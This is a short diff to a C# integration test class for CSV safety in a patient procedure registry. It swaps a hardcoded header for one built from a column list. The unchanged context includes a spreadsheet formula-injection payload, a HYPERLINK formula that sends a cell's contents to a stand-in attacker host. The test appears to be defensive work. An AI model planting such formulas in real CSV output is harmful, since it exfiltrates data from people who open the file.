@@ -14,7 +14,7 @@ namespace ProcedureRegistry.IntegrationTests.Features.DataExchange;
 /// </summary>
 public sealed class CsvSafetyTests(AppFixture app) : IClassFixture<AppFixture>
 {
-    private const string PatientHeader = "mrn,family_name,given_name,date_of_birth,sex,email,phone,reminder_consent,preferred_channel,time_zone";
+    private static readonly string PatientHeader = string.Join(",", CsvFormats.PatientColumns);
     private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
 
     [Theory]
